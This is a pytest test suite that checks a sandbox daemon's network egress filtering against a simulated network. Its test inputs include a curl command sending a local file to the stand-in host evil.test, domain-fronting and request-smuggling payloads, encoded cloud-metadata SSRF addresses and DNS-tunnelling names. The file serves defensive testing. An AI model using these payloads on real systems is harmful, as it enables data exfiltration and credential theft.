# SPDX-License-Identifier: Apache-2.0
"""What sandboxes can reach, and what not (security.md 3.9), in a test world (lib/world.py). The numbers are those of
the catalogue. Attackers inside are root of the sandbox; where that is too weak for an attack, the test itself
attacks from the sandbox's net namespace as root of the host.
"""

import contextlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time

import pytest

from lib import census, tree, world
from lib.client import ApiError
from lib.daemon import Daemon
from lib.world import EVIL, GOOD, HOST, METADATA, PRIVATE, World

ALLOW = ["allowed.test", "*.allowed.test", "mail.test:2525"]
CURL = "curl -sS -m 20 -o /dev/null -w '%{http_code}'"


@pytest.fixture(scope="module")
def net():
    with World() as outside:
        with Daemon(env={"CAY_DNS_UPSTREAM": world.DNS, "CAY_EGRESS_ALLOW_PRIVATE": f"10.9.9.0/24 {HOST}"}) as daemon:
            outside.daemon = daemon
            yield outside
        links = subprocess.run(["ip", "-o", "link"], capture_output=True, text=True).stdout
        tables = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
        routes = subprocess.run(["ip", "route"], capture_output=True, text=True).stdout
        assert not re.search(r"cay\d+-", links) and "cay" not in tables and "100." not in routes, (links, tables, routes)


def test_world_mounts_nothing():
    """The test's own namespaces leave the host's mounts alone, also on a machine that never had a named one."""
    before = census.mounts(())
    with World() as outside:
        assert census.mounts(()) == before
        done = subprocess.run(outside.within_host("ip", "-o", "addr"), capture_output=True, text=True)
        assert HOST in done.stdout
    assert census.mounts(()) == before


def open_box(net, **policy):
    policy = dict({"mode": "restricted", "allow": ALLOW}, **policy)
    return Box(net, net.daemon.client, network=policy, timeout_sec=3600)


class Box:
    def __init__(self, net, client, **body):
        self.net, self.client, self.body = net, client, body

    def __enter__(self):
        self.sandbox = self.client.sandbox(**self.body)
        self.sandbox.__enter__()
        self.id = self.sandbox.id
        # A template built before sandboxes had networks names no server.
        self.sandbox.root("grep -q nameserver /etc/resolv.conf || echo nameserver 192.0.2.53 > /etc/resolv.conf")
        return self

    def __exit__(self, *exc):
        self.sandbox.__exit__(*exc)

    def sh(self, command, **body):
        return self.sandbox.exec(command, user="root", **body)

    def py(self, code, *args):
        """Runs Python inside; what it prints last, as JSON."""
        done = self.sandbox.exec(["python3", "-c", PRELUDE + code, *map(str, args)], user="root")
        assert done.exit_code == 0, done
        return json.loads(done.stdout.splitlines()[-1])

    def patch(self, **network):
        return self.client.call("PATCH", f"/v1/sandboxes/{self.id}", {"network": network})

    def denials(self):
        return self.client.call("GET", f"/v1/sandboxes/{self.id}/denials")["data"]

    def denied(self, **match):
        return [d for d in self.denials() if all(d[k] == v for k, v in match.items())]

    def address(self):
        return self.sh("hostname -I").stdout.split()[0]

    def pid(self):
        """Of its first process: the one whose host name is the sandbox's."""
        for pid in os.listdir("/proc"):
            try:
                if pid.isdigit() and open(f"/proc/{pid}/comm").read() == "agent\n":
                    address = subprocess.run(["nsenter", "-t", pid, "-u", "hostname"],
                                             capture_output=True, text=True).stdout.strip()
                    if address == self.id:
                        return pid
            except OSError:
                pass
        raise AssertionError("no such process")


PRELUDE = """
import errno, json, os, socket, ssl, struct, sys
def tcp(host, port, data=b'', wait=15):
    '''What came back, or the error's name.'''
    s = socket.socket(); s.settimeout(wait)
    try:
        s.connect((host, port))
        if data: s.sendall(data)
        got = b''
        while True:
            more = s.recv(65536)
            if not more: break
            got += more
            if not data or b'\\r\\n\\r\\n' in got: break
        return got.decode('latin-1')
    except socket.timeout: return 'TIMEOUT'
    except OSError as e: return errno.errorcode.get(e.errno, str(e))
    finally: s.close()
def say(x): print(json.dumps(x))
"""


@pytest.fixture(scope="module")
def box(net):
    with open_box(net) as sandbox:
        yield sandbox


def code(box, url, *options):
    done = box.sh(f"{CURL} {' '.join(options)} '{url}'")
    return done.stdout, done.exit_code


# ---- what is allowed works ----

def test_allowed_works(net, box):
    assert code(box, "http://allowed.test/") == ("200", 0)
    assert code(box, "https://api.allowed.test/", "-k") == ("200", 0)
    assert code(box, "http://two.allowed.test/") == ("200", 0)  # an alias
    assert box.py("say(len(socket.gethostbyname_ex('big.allowed.test')[2]))") == 30  # asked by TCP
    assert net.seen("dns", name="big.allowed.test", tcp=True)
    assert "mixed" not in json.dumps(box.denials())
    assert box.py("say(socket.gethostbyname_ex('mixed.allowed.test')[2])") == [GOOD]


def test_much_goes_through_unchanged(net, box):
    done = box.sh("curl -sS -m 60 http://allowed.test/bytes/30000000 | md5sum; "
                  "head -c 30000000 /dev/zero | tr '\\0' x | md5sum")
    assert len(set(done.stdout.split())) == 2, done  # one sum, and '-'
    done = box.sh("head -c 5000000 /dev/zero > /tmp/up; curl -sS -m 60 -T /tmp/up http://allowed.test/up")
    assert done.exit_code == 0 and net.seen("http", path="/up", size=5000000)


def test_server_that_speaks_first(net):
    with open_box(net, allow=["allowed.test:2525"]) as box:
        assert box.py("socket.gethostbyname('allowed.test'); say(tcp('allowed.test', 2525))") == "220 banner\r\n"
        assert code(box, "http://allowed.test/") == ("403", 0)  # not on this port


# ---- denials are explained ----

def test_denial_is_explained(net, box):
    done = box.sh(f"curl -sS -m 20 http://{EVIL}/secret")
    reason = json.loads(done.stdout)["error"]
    assert reason["code"] == "egress_denied" and reason["host"] == EVIL and reason["port"] == 80
    assert reason["reason"] == "not_allowed" and f"cay net allow {box.id} {EVIL}:80" in reason["hint"]
    for url, port in (("https://evil.test/", 443), ("http://evil.test:8080/x", 8080)):
        done = box.sh(f"curl -sS -m 20 {url}")  # by name, which leads to the sink
        reason = json.loads(done.stdout)["error"]
        assert (reason["host"], reason["port"], reason["reason"]) == ("evil.test", port, "not_allowed"), done
        assert f"cay net allow {box.id} evil.test:{port}" in reason["hint"]
    assert box.denied(host="evil.test", protocol="dns", reason="not_allowed")
    assert "host=evil.test" in net.daemon.command("events", box.id).stdout
    found = box.denied(host=EVIL, port=80, protocol="http")
    assert found and found[0]["count"] >= 1 and found[0]["suggestion"] == f"{EVIL}:80"
    events = box.client.call("GET", f"/v1/sandboxes/{box.id}/events?format=json&type=egress")["data"]
    assert any(e["type"] == "egress.denied" and e["data"]["host"] == EVIL for e in events), events
    assert not net.seen("http", path="/secret")


def test_denied_https_is_explained(net, box):
    """By a certificate of the sandbox's own authority, which its trust store has."""
    before = len(net.seen("https"))
    done = box.sh(f"curl -sS -m 20 -w '%{{http_code}}' --resolve evil.test:443:{EVIL} https://evil.test/secret")
    body, status = done.stdout[:-3], done.stdout[-3:]
    reason = json.loads(body)["error"]
    assert status == "403" and reason["code"] == "egress_denied" and reason["reason"] == "not_allowed", done
    assert (reason["host"], reason["port"]) == ("evil.test", 443) and "cay net allow" in reason["hint"]
    assert json.loads(box.sh(f"curl -sS -m 20 https://{EVIL}/").stdout)["error"]["host"] == EVIL  # without a name
    said = box.sh(f"curl -sS -m 20 -d @/etc/services --resolve evil.test:443:{EVIL} https://evil.test/up").stdout
    assert json.loads(said)["error"]["code"] == "egress_denied"
    got = box.py("import urllib.request, urllib.error\n"
                 f"try: say(urllib.request.urlopen('https://{EVIL}/').status)\n"
                 "except urllib.error.HTTPError as e: say([e.code, json.load(e)['error']['port']])")
    assert got == [403, 443]
    # A client that does not trust our authority sees a certificate error, and the list still has the reason.
    done = box.sh(f"curl -sS -m 20 --cacert /etc/ssl/cay/before.pem --resolve evil.test:443:{EVIL} https://evil.test/")
    assert done.exit_code in (60, 77), done
    assert box.denied(host="evil.test", port=443, protocol="tls", reason="not_allowed")[0]["count"] >= 3
    # What is allowed is not touched.
    issuer = box.sh("echo | openssl s_client -connect allowed.test:443 -servername allowed.test 2>/dev/null | "
                    "openssl x509 -noout -issuer").stdout
    assert "allowed.test" in issuer and "cay" not in issuer
    assert len(net.seen("https")) == before


def total(box, host):
    return sum(d["count"] for d in box.denied(host=host))


def test_refused_name_counts_once(net):
    """The lookup for both families and the following connection are one attempt; each further one is one more."""
    with open_box(net) as box:
        assert code(box, "http://evil.test/") == ("403", 0)
        assert total(box, "evil.test") == 1, box.denials()
        assert code(box, "https://other.test/") == ("403", 0)
        assert total(box, "other.test") == 1, box.denials()
        assert code(box, "http://evil.test/") == ("403", 0)
        assert total(box, "evil.test") == 2, box.denials()
        # A lookup alone, and traffic other than HTTP: known by the lookup.
        box.sh("getent ahostsv4 alone.evil.test")
        assert total(box, "alone.evil.test") == 1, box.denials()
        assert box.py("say(tcp('raw.evil.test', 2222, b'\\0\\1\\2'))") == "ECONNRESET"
        assert total(box, "raw.evil.test") == 1, box.denials()
        events = box.client.call("GET", f"/v1/sandboxes/{box.id}/events?type=egress")["data"]
        hosts = [e["data"]["host"] for e in events]
        assert hosts.count("evil.test") == 1 and hosts.count("other.test") == 1, hosts


@pytest.mark.parametrize("policy", [{"allow": ["0.0.0.0/0"]}, {"allow": ["100.64.0.0/10"]}, {"mode": "full", "deny": ["evil.test"]},
                                    {"allow": ["*.evil.test", "100.96.0.0/11:80"], "deny": ["evil.test"]}])
def test_no_rule_opens_the_sink(net, policy):
    """Whatever the lists contain, and whatever name is used there: refused."""
    with open_box(net, **policy) as box:
        sink = box.py("say(socket.gethostbyname('evil.test'))")
        assert sink.startswith("100.") and sink.endswith(".255.254")
        for name in ("evil.test", "allowed.test", "x.evil.test", sink):
            for url, options in ((f"http://{name}/", f"--resolve {name}:80:{sink}"),
                                 (f"https://{name}/", f"-k --resolve {name}:443:{sink}")):
                assert code(box, url, options) == ("403", 0), (name, url)
        for port in (22, 80, 443, 17080, 17053, 2525):
            assert box.py(f"say(tcp('{sink}', {port}, b'\\0\\1'))") in ("ECONNRESET", "ECONNREFUSED", ""), port
        udp = box.py(f"s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect(('{sink}', 443)); s.send(b'x')\n"
                     "try: s.recv(9); say('open')\nexcept OSError as e: say(type(e).__name__)")
        assert udp != "open"


def test_allowed_after_a_refusal(net):
    """A name that is allowed now resolves to its own address at once."""
    with open_box(net) as box:
        assert code(box, "http://evil.test/") == ("403", 0)
        box.patch(allow=[*ALLOW, "evil.test"])
        assert code(box, "http://evil.test/") == ("200", 0)


def test_denied_https_storm_is_cheap(net, box):
    """Beyond a rate the rest gets only an alert: no signature, no handshake."""
    found = box.py(
        "import collections; got = collections.Counter()\n"
        "c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n"
        "for i in range(150):\n"
        f"  s = socket.create_connection(('{EVIL}', 443), 20)\n"
        "  try: c.wrap_socket(s, server_hostname='h%d.evil.test' % i); got['opened'] += 1\n"
        "  except ssl.SSLError as e: got[e.reason] += 1\n"
        "  s.close()\n"
        "say(got)")
    assert found["opened"] >= 1 and found.get("TLSV1_ALERT_ACCESS_DENIED", 0) >= 1, found
    assert sum(found.values()) == 150 and len(found) == 2, found


def test_denials_outlive_the_daemon():
    with World() as outside, Daemon(env={"CAY_DNS_UPSTREAM": world.DNS}) as daemon:
        outside.daemon = daemon
        with open_box(outside, deny=["other.test"]) as box:
            assert code(box, f"http://{EVIL}/") == ("403", 0)
            assert code(box, "http://other.test/") == ("403", 0)
            before = box.denials()
            assert len(before) == 2
            pid = daemon.kill("cayd", signal.SIGTERM)
            wait(lambda: daemon.pids().get("cayd") not in (None, pid))
            box.client = box.sandbox.client = daemon.wait_ready(30)
            assert box.denials() == before
            assert code(box, f"http://{EVIL}/") == ("403", 0)
            assert box.denied(host=EVIL, port=80)[0]["count"] == 2
            daemon.forgive()


def test_learn(net):
    with open_box(net, allow=[], learn=True) as box:
        assert code(box, "http://evil.test:8080/") == ("200", 0)
        assert code(box, f"http://{METADATA}/") == ("403", 0)  # what is never reachable stays closed
        assert box.denied(host="evil.test", port=8080, passed=True)
        said = net.daemon.command("net", "learn", box.id).stdout.split()
        assert said == ["evil.test:8080"]
        assert net.daemon.command("net", "allow", box.id, *said).returncode == 0
        assert net.daemon.command("net", "learn", box.id, "off").returncode == 0
        assert code(box, "http://evil.test:8080/") == ("200", 0)
        assert code(box, "http://evil.test/") == ("403", 0)
        assert "evil.test" in net.daemon.command("net", "denials", box.id).stdout


# ---- NET-03, NET-04, NET-05: false names ----

@pytest.mark.parametrize("url,options", [
    ("https://allowed.test/", f"-k --resolve allowed.test:443:{EVIL}"),  # SNI allowed, address the attacker's
    ("http://allowed.test/", f"--resolve allowed.test:80:{EVIL}"),
    ("https://evil.test/", f"-k --resolve evil.test:443:{GOOD}"),  # address allowed, SNI not
    ("http://evil.test/", f"--resolve evil.test:80:{GOOD}"),
    (f"https://{GOOD}/", "-k"),  # no SNI
    (f"http://{GOOD}/", "-H 'Host: allowed.test.evil.test'"),
    (f"http://{GOOD}/", "-H 'Host: evil.test'"),
])
def test_NET_03_fronting(net, box, url, options):
    box.py("say(socket.gethostbyname('allowed.test'))")
    before = len(net.seen("http")) + len(net.seen("https"))
    status, exit_code = code(box, url, options)
    assert status == "403" or exit_code == 35, (status, exit_code)
    assert len(net.seen("http")) + len(net.seen("https")) == before


FIRST = b"GET /kept HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
OTHER = b"GET /kept-other HTTP/1.1\r\nHost: evil.test\r\n\r\n"


@pytest.mark.parametrize("first,then", [
    (FIRST, OTHER), (FIRST + OTHER, b""), (FIRST + OTHER[:20], OTHER[20:]),
    (b"POST /kept HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\n\r\nhello" + OTHER, b""),
    (b"POST /kept HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\n\r\nhel", b"lo" + OTHER),
    (b"GET /kept HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n", OTHER),
    (b"CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n", OTHER),
    (FIRST, b"GET /kept-other HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n"),
    (FIRST, b"GET /kept-other HTTP/1.1\nHost: evil.test\n\n"),
    (FIRST, b"GET http://evil.test/kept-other HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
    (FIRST, b"\r\n\r\n" + OTHER),
])
def test_NET_03_later_request(net, box, first, then):
    """On a kept-alive connection, the Host of every request is checked."""
    box.py("say(socket.gethostbyname('allowed.test'))")
    got = box.py(f"first, then = {first!r}, {then!r}\n"
                 f"s = socket.create_connection(('{GOOD}', 80), 20); s.settimeout(20); s.sendall(first)\n"
                 "got = s.recv(65536).decode('latin-1') if then and not first.endswith(b'hel') else ''\n"
                 "try:\n"
                 "  if then: s.sendall(then)\n"
                 "  while True:\n"
                 "    more = s.recv(65536).decode('latin-1')\n"
                 "    if not more: break\n"
                 "    got += more\n"
                 "except ConnectionError: pass\n"
                 "say(got)")
    assert not [e for e in net.seen("http") if e["path"].endswith("/kept-other")], got
    assert "kept-other" not in got
    if (first, then) == (FIRST, OTHER):
        assert "HTTP/1.1 403" in got and '"host":"evil.test"' in got, got
        assert box.denied(host="evil.test", port=80, protocol="http", reason="not_allowed")


def test_NET_03_kept_alive_works(net, box):
    """One connection, several allowed names, bodies both ways."""
    got = box.py(
        "import http.client\n"
        "socket.gethostbyname('allowed.test'); socket.gethostbyname('api.allowed.test')\n"
        f"c = http.client.HTTPConnection('{GOOD}', timeout=20); c.connect(); port = c.sock.getsockname()[1]; got = []\n"
        "for i in range(12):\n"
        "  host = ('allowed.test', 'api.allowed.test')[i % 2]\n"
        "  body = (None, b'x' * 70000, (b'c' * 9000 for _ in range(9)))[i % 3]\n"
        "  c.request('POST' if body else 'GET', '/again', body, {'Host': host}, encode_chunked=i % 3 == 2)\n"
        "  a = c.getresponse(); a.read(); got.append(a.status)\n"
        "  assert c.sock.getsockname()[1] == port\n"
        "say(got)")
    assert got == [200] * 12
    assert [e["size"] for e in net.seen("http", path="/again")] == [0, 70000, 81000] * 4


@pytest.mark.parametrize("head", [
    b"GET / HTTP/1.0\r\n\r\n", b"GET / HTTP/1.1\r\n\r\n", b"GET / HTTP/1.1\r\nHost: \r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n",
    b"GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: allowed.test.evil\r\n\r\n", b"GET / HTTP/1.1\r\nHost: evil.test\0.allowed.test\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: allowed.test:80@evil.test\r\n\r\n", b"GET / HTTP/1.1\r\nHost: all%6fwed.test\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: " + b"a" * 300 + b".allowed.test\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a..allowed.test\r\n\r\n", b"GET / HTTP/1.1\r\nHost: xallowed.test\r\n\r\n",
    b"GET / HTTP/1.1\nHost: allowed.test\n\n", b"GET / HTTP/1.1\r\n Host: allowed.test\r\n\r\n",
    b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00", b"SSH-2.0-x\r\n", b"\x00" * 64, "GET / HTTP/1.1\r\nHost: аllowed.test\r\n\r\n".encode(),
], ids=range(20))
def test_NET_04_odd_names(net, box, head):
    box.py("say(socket.gethostbyname('allowed.test'))")
    before = len(net.seen("http"))
    got = box.py(f"say(tcp('{GOOD}', 80, {head!r}))")
    assert "200 OK" not in got and got != "TIMEOUT", got
    assert len(net.seen("http")) == before


def test_NET_04_case_and_dot_are_the_same_name(net, box):
    assert code(box, "http://ALLOWED.test./") == ("200", 0)


def test_NET_05_deny_beats_allow(net):
    with open_box(net, allow=["*.allowed.test", "0.0.0.0/0"], deny=["api.allowed.test", f"{EVIL}:80"]) as box:
        assert code(box, "http://www.allowed.test/") == ("200", 0)
        assert code(box, "https://api.allowed.test/", "-k") == ("403", 0)
        assert code(box, "https://api.allowed.test/", f"-k --resolve api.allowed.test:443:{GOOD}") == ("403", 0)
        assert code(box, f"http://{EVIL}/") == ("403", 0)
        assert code(box, f"http://{EVIL}:8080/") == ("200", 0)
        # Everything public, and still nothing that is not.
        for address in (PRIVATE, METADATA, HOST, "127.0.0.1", "100.96.0.1"):
            status, exit_code = code(box, f"http://{address}/")
            assert status == "403" or exit_code == 7, (address, status, exit_code)


def test_NET_05_private_addresses_named_in_allow(net):
    with open_box(net, allow=["10.9.9.0/24:80", "intern.test"]) as box:
        assert code(box, f"http://{PRIVATE}/") == ("200", 0)
        assert code(box, f"http://{PRIVATE}:8080/") == ("403", 0)
        assert box.py("say(socket.gethostbyname('intern.test'))") == PRIVATE


def test_NET_05_private_only_as_the_operator_opened_it(net):
    """A tenant's entry opens nothing that egress_allow_private does not: finding 3 of the audit."""
    with open_box(net, allow=["10.0.0.0/8", "192.168.0.0/16", "11.0.0.0/24"]) as box:
        assert code(box, f"http://{PRIVATE}/") == ("200", 0)  # within both
        said = json.loads(box.sh("curl -sS -m 20 http://10.9.8.7/").stdout)["error"]
        assert said["reason"] == "private_address" and "egress_allow_private" in said["hint"], said
        assert box.denied(host="10.9.8.7", port=80, reason="private_address")


@pytest.mark.parametrize("allow,port,passes", [
    (["11.0.0.0/24"], 0, False),  # a range does not mean the host
    ([HOST], 0, True),  # the address alone, and the operator listed exactly it
    ([HOST], "api", False),  # the daemon's own port, never
    (["host.allowed.test"], 0, False),  # by name
    (["0.0.0.0/0"], 0, False),
])
def test_NET_12_the_hosts_own_address(net, allow, port, passes):
    server = socket.create_server((HOST, 0))
    thread = threading.Thread(target=lambda: serve_once(server), daemon=True)
    thread.start()
    try:
        number = int(net.daemon.url.rsplit(":", 1)[1]) if port == "api" else server.getsockname()[1]
        with open_box(net, allow=allow) as box:
            got = box.sh(f"curl -sS -m 20 http://host.allowed.test:{number}/ --resolve host.allowed.test:{number}:{HOST}").stdout
            by_address = box.sh(f"curl -sS -m 20 http://{HOST}:{number}/").stdout
            assert ("own service" in by_address) == passes, by_address
            if not passes:
                assert json.loads(by_address)["error"]["reason"] == "host_address", by_address
                assert "own service" not in got, got
    finally:
        server.close()
        thread.join(10)


def serve_once(server):
    while True:
        try:
            conn, _ = server.accept()
        except OSError:
            return
        with conn:
            conn.recv(65536)
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 12\r\nConnection: close\r\n\r\nown service\n")


def test_NET_12_private_networks_are_closed_by_default():
    with World() as outside, Daemon(env={"CAY_DNS_UPSTREAM": world.DNS}) as daemon:
        outside.daemon = daemon
        with open_box(outside, allow=["10.0.0.0/8", PRIVATE, HOST, "0.0.0.0/0"]) as box:
            for address in (PRIVATE, HOST):
                said = json.loads(box.sh(f"curl -sS -m 20 http://{address}/").stdout)["error"]
                assert said["code"] == "egress_denied" and "egress_allow_private" in said["hint"], said
            assert not outside.seen("http", address=PRIVATE)
        # Webhooks neither: the host's own address, although it looks public.
        server = socket.create_server((HOST, 0))
        server.settimeout(3)
        try:
            url = f"http://{HOST}:{server.getsockname()[1]}/hook"
            hook = daemon.client.call("POST", "/v1/webhooks", {"url": url, "events": ["sandbox"]})
            tried = daemon.client.call("POST", f"/v1/webhooks/{hook['id']}/test", {})
            with pytest.raises(TimeoutError):
                server.accept()
            assert "webhook_allow_private" in json.dumps(tried), tried
        finally:
            server.close()


def test_full_with_denied_names_needs_names(net):
    """`deny` by name holds in `full`, however the connection is disguised: finding 12 of the audit."""
    with open_box(net, mode="full", allow=[], deny=["evil.test"]) as box:
        before = len(net.seen("http")) + len(net.seen("https")) + len(net.seen("banner"))
        request = b"GET /denied-name HTTP/1.1\r\nHost: %s\r\n\r\n"
        for head in (request % EVIL.encode(), b"\r\n" + request % b"evil.test", b"GET /denied-name HTTP/1.0\r\n\r\n",
                     request % b"other.test", request.lower() % b"x"):
            for port in (80, 9000):
                assert "200 OK" not in box.py(f"say(tcp('{EVIL}', {port}, {head!r}))"), (head, port)
        assert box.py(f"say(tcp('{EVIL}', 2525))") != "220 banner\r\n"  # the literal address, nothing said
        assert code(box, f"https://{EVIL}/", "-k")[0] != "200"
        assert code(box, "https://other.test/", f"-k --resolve other.test:443:{EVIL}")[0] != "200"  # not looked up
        assert len(net.seen("http")) + len(net.seen("https")) + len(net.seen("banner")) == before
        # By names that were looked up all of it works; by address where allow names it.
        assert code(box, "https://allowed.test/", "-k") == ("200", 0)
        assert box.py("say(tcp('allowed.test', 2525))") == "220 banner\r\n"
        box.patch(allow=[f"{EVIL}:2525"])
        assert box.py(f"say(tcp('{EVIL}', 2525))") == "220 banner\r\n"


def test_full_reaches_the_public_only(net):
    with open_box(net, mode="full", allow=[], deny=["other.test"]) as box:
        assert code(box, "http://evil.test/") == ("200", 0)
        assert code(box, "https://evil.test/", "-k") == ("200", 0)
        assert box.py("say(tcp('evil.test', 2525))") == "220 banner\r\n"
        assert code(box, "http://other.test/") == ("403", 0)
        for address in (PRIVATE, METADATA, HOST):
            assert code(box, f"http://{address}/") == ("403", 0)


DATAGRAM = """
def udp(host, port, wait=10):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(wait)
    try: s.connect((host, port)); s.send(b'knock'); return s.recv(99).decode()
    except socket.timeout: return 'TIMEOUT'
    except OSError as e: return errno.errorcode[e.errno]
def ping(host, wait=10):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(wait)
    try: s.connect((host, 0)); s.send(b'\\x08\\0\\0\\0\\0\\0\\0\\1knock'); return s.recv(99)[8:].decode()
    except socket.timeout: return 'TIMEOUT'
    except OSError as e: return errno.errorcode[e.errno]
"""


def test_full_is_all_protocols(net):
    """UDP and ping to the outside; private networks stay closed, and denials are reported."""
    def forwarding(link="wan"):
        return open(f"/proc/sys/net/ipv4/conf/{link}/forwarding").read().strip()

    with open_box(net, mode="full", allow=[]) as box:
        assert box.py(DATAGRAM + f"say([udp('{EVIL}', 9999), ping('{EVIL}')])") == ["knock", "knock"]
        assert code(box, "http://evil.test/") == ("200", 0)
        assert code(box, "https://evil.test/", "-k") == ("200", 0)
        # The link to the outside forwards; the host as a whole does not, nor for any other traffic.
        assert forwarding() == "1" and open("/proc/sys/net/ipv4/ip_forward").read().strip() == "0"
        rules = subprocess.run(["nft", "list", "ruleset"], capture_output=True, text=True).stdout
        assert re.search(r'iifname "wan" oifname != "cay\*" drop', rules), rules
        before = len(net.seen("udp"))
        for address in (PRIVATE, METADATA, HOST, "192.168.1.1", "127.0.0.1", "100.96.0.1"):
            got = box.py(DATAGRAM + f"say([udp('{address}', 9999, 1), ping('{address}', 1)])")
            if address != "127.0.0.1":  # its own
                assert "knock" not in got, (address, got)
            if address == PRIVATE:  # later ones the kernel limits
                assert "TIMEOUT" not in got, got
        assert len(net.seen("udp")) == before
        wait(lambda: box.denied(host=PRIVATE, port=9999, protocol="udp", reason="private_address"))
        wait(lambda: box.denied(host=METADATA, protocol="icmp", reason="host_address"))
        wait(lambda: box.denied(host=HOST, port=9999, protocol="udp", reason="host_address"))
        # All DNS goes to the daemon, whatever server is asked: every public name resolves, and none that leads inside.
        assert box.py(f"say(socket.gethostbyname('evil.test'))") == EVIL
        assert box.py("try: say(socket.gethostbyname('intern.test'))\nexcept OSError: say(None)") is None
        # With denied names only the proxy can decide: then no other way is open.
        box.patch(deny=["other.test"])
        assert box.py(DATAGRAM + f"say(udp('{EVIL}', 9999, 2))") != "knock"
        wait(lambda: box.denied(host=EVIL, port=9999, protocol="udp", reason="protocol"))
        box.patch(deny=[])
        assert box.py(DATAGRAM + f"say(udp('{EVIL}', 9999))") == "knock"
        box.patch(mode="restricted", allow=["allowed.test"])
        assert box.py(DATAGRAM + f"say(udp('{EVIL}', 9999, 2))") != "knock"


def test_full_neighbours(net):
    """Two routed sandboxes do not reach each other; nor can a host of the world reach them."""
    with open_box(net, mode="full", allow=[]) as one, open_box(net, mode="full", allow=[]) as two:
        two.sh("python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM);"
               " s.bind(('', 7000)); d, a = s.recvfrom(9); open('/tmp/got', 'wb').write(d)\" >/dev/null 2>&1 & sleep 0.2")
        target = two.address()
        assert one.py(DATAGRAM + f"say(udp('{target}', 7000, 2))") != "knock"
        subprocess.run(net.within_world("ip", "route", "replace", f"{target}/32", "via", HOST), check=True)
        try:
            subprocess.run(net.within_world(
                "python3", "-c", "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM);"
                f" s.sendto(b'in', ('{target}', 7000))"), check=True)
            two.py(DATAGRAM + f"say(udp('{EVIL}', 9999))")  # a round trip later
            assert two.sh("cat /tmp/got 2>/dev/null").stdout == ""
        finally:
            subprocess.run(net.within_world("ip", "route", "del", f"{target}/32"), check=True)


@pytest.mark.parametrize("end", ["down", "killed"])
def test_full_puts_forwarding_back(end):
    with World() as outside:
        with Daemon(env={"CAY_DNS_UPSTREAM": world.DNS, "CAY_POOL": "false"}) as daemon:
            outside.daemon = daemon
            with open_box(outside, mode="full", allow=[]) as box:
                assert box.py(DATAGRAM + f"say(udp('{EVIL}', 9999))") == "knock"
                if end == "killed":
                    daemon.kill("cay-warden")
                    box.client = box.sandbox.client = daemon.wait_ready(30)
                    assert box.py(DATAGRAM + f"say(udp('{EVIL}', 9999))") == "knock"
            daemon.forgive()
        assert open("/proc/sys/net/ipv4/conf/wan/forwarding").read() == "0\n"
        assert not [n for n in os.listdir("/run/cay") if n.startswith(f"forward-{os.stat('/proc/self/ns/net').st_ino}-")]


# ---- NET-07: metadata ----

FORMS = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "0xa9.254.0xa9fe",
         "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "169.254.169.254.", "100.100.100.200", "168.63.129.16"]


@pytest.mark.parametrize("form", FORMS)
def test_NET_07_metadata(net, box, form):
    status, exit_code = code(box, f"http://{form}/latest/meta-data")
    assert status == "403" or exit_code in (6, 7), (status, exit_code)
    assert not net.seen("http", address=METADATA)


def test_NET_07_by_name_and_redirect(net, box):
    for name in ("meta.allowed.test", "rebind.allowed.test", "loop.allowed.test"):
        assert code(box, f"http://{name}/")[1] == 6, name
        assert box.denied(host=name, protocol="dns"), name
    status, _ = code(box, f"http://allowed.test/redirect?http://{METADATA}/steal", "-L")
    assert status == "403"
    assert code(box, "http://host.allowed.test/") == ("403", 0)  # this host's own address, by an allowed name
    assert not net.seen("http", path="/steal") and not net.seen("http", address=METADATA)


# ---- NET-08: DNS ----

ASK = """
def ask(server, name, kind=1, tcp_=False):
    q = struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(x)]) + x for x in name.split(b'.')) + b'\\0'
    q += struct.pack('!HH', kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp_ else socket.SOCK_DGRAM); s.settimeout(15)
    s.connect((server, 53)); s.send((struct.pack('!H', len(q)) if tcp_ else b'') + q)
    a = s.recv(4096)[2 if tcp_ else 0:]
    return [a[3] & 15, struct.unpack('!H', a[6:8])[0]]
"""


def test_NET_08_only_allowed_names_leave(net, box):
    names = [b"x" * 63 + b".tunnel.test", b"a.b.c.d.e.f.evil.test", b"allowed.test.evil.test", b"_dmarc.evil.test",
             b"allowed.tes", b"test", b"8.8.8.8.in-addr.arpa", b"l\xc3\xb6wed.test"]
    before = len(net.seen("dns"))
    codes = box.py(ASK + f"say([ask('192.0.2.53', n, k)[0] for n in {names!r} for k in (1, 28, 16, 10, 255, 65)])")
    assert set(codes) <= {0, 1, 3, 5}, codes
    assert box.py(ASK + "say(ask('192.0.2.53', b'tunnel.test', 1, True))") == [0, 1]  # the sink
